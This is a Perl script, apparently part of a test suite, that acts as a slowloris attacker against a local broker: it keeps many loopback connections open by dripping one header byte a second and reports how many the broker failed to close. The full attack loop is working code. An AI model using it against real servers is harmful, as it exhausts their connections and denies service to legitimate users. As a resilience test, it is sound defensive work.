#!/usr/bin/perl
# The attacker: from 127.0.0.2 alone, keeps up to COUNT connections to the
# broker and sends one byte a second on each: a request head that never ends
# (slowloris). A connection the broker closes is opened again. Runs for
# SECONDS. Writes to STATUSFILE, each second, how many of its connections
# have lasted since the round before ("held") and the round number.
use strict;
use warnings;
use IO::Socket::INET;
use Time::HiRes qw(time sleep);

my ($port, $count, $secs, $status) = @ARGV;
my $head = "POST /v1/lookup HTTP/1.1\r\nHost: x\r\nX-Drip: ";
$SIG{PIPE} = 'IGNORE';
my @s;
my $end = time + $secs;
my $round = 0;

sub open_one {
	my $c = IO::Socket::INET->new(PeerAddr => '127.0.0.1', PeerPort => $port,
				      LocalAddr => '127.0.0.2', Blocking => 1, Timeout => 1)
	    or return undef;
	$c->blocking(0);
	syswrite($c, $head);
	return $c;
}

# Whether the broker closed this connection: readable with EOF or an error.
sub dead {
	my $c = shift;
	my $rin = '';
	vec($rin, fileno($c), 1) = 1;
	return 0 unless select(my $rout = $rin, undef, undef, 0);
	my $n = sysread($c, my $buf, 4096);
	return !defined($n) ? 1 : $n == 0;
}

while (time < $end) {
	my $t0 = time;
	my $held = 0;
	for my $i (0 .. $count - 1) {
		if ($s[$i] && (dead($s[$i]) || !defined(syswrite($s[$i], 'a')))) {
			close $s[$i];
			$s[$i] = undef;
		}
		if ($s[$i]) {
			$held++;
		} else {
			$s[$i] = open_one();
		}
	}
	$round++;
	open(my $f, '>', "$status.tmp") or die;
	print {$f} "held=$held round=$round\n";
	close $f;
	rename("$status.tmp", $status);
	my $left = 1 - (time - $t0);
	sleep($left) if $left > 0;
}
